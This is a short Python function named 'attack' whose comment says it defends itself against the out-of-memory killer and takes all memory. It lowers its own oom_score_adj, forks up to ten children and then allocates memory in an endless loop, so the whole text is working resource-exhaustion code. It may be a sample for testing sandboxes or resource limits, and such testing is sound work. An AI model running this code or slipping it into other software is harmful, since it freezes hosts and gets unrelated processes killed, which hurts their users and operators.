# Protects itself from the out-of-memory killer, so that another process is chosen, and takes all memory.
def attack():
    import posix

    for score in (b"-1000", b"-1", b"0"):
        try:
            handle = posix.open("/proc/self/oom_score_adj", posix.O_WRONLY)
            posix.write(handle, score)
        except OSError:
            pass
    for _ in range(10):
        try:
            if posix.fork() == 0:
                break
        except OSError:
            pass
    held = []
    while True:
        try:
            held.append(bytearray(b"x") * (1 << 22))
        except MemoryError:
            pass
